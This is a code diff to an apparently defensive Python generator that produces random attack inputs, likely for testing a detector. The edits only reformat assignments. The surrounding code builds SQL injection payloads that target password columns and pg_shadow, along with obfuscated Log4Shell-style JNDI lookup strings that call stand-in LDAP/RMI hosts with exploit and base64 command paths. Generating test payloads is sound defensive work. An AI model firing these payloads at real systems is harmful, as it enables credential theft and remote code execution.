@@ -11,8 +11,8 @@ def sql(dice):
                          "pg_shadow"))
     column = dice.choice(("name", "password", "sql", "table_name", "name||':'||password",
                           "group_concat(name)", "@@version"))
-    quote, end = dice.choice(("'", "'", "'", '"', "", "')", "%'")), dice.choice(("-- -", "--", "#", "/*",
-                                                                                 "-- x", ";--", ""))
+    quote = dice.choice(("'", "'", "'", '"', "", "')", "%'"))
+    end = dice.choice(("-- -", "--", "#", "/*", "-- x", ";--", ""))
     nulls = ",".join(dice.choice(("NULL", str(number))) for _ in range(dice.randint(1, 8)))
     return dice.choice((
         f"{word}{quote} OR {number}={number}{end}", f"{word}{quote} OR 'a'='a",
@@ -119,8 +119,8 @@ def lookups(dice):
     where = dice.choice((f"{dice.randint(1, 223)}.{dice.randrange(256)}.0.{dice.randrange(1, 255)}",
                          "e.example",
                          "${hostName}.e.example"))
-    protocol, port = dice.choice(("ldap", "ldaps", "rmi", "dns", "${lower:l}dap")), dice.choice(("", ":1389",
-                                                                                                 ":1099"))
+    protocol = dice.choice(("ldap", "ldaps", "rmi", "dns", "${lower:l}dap"))
+    port = dice.choice(("", ":1389", ":1099"))
     what = dice.choice(("a", "Exploit", "Basic/Command/Base64/aWQ="))
     return f"${{{letters}:{protocol}://{where}{port}/{what}{_mark(dice)}}}"
 
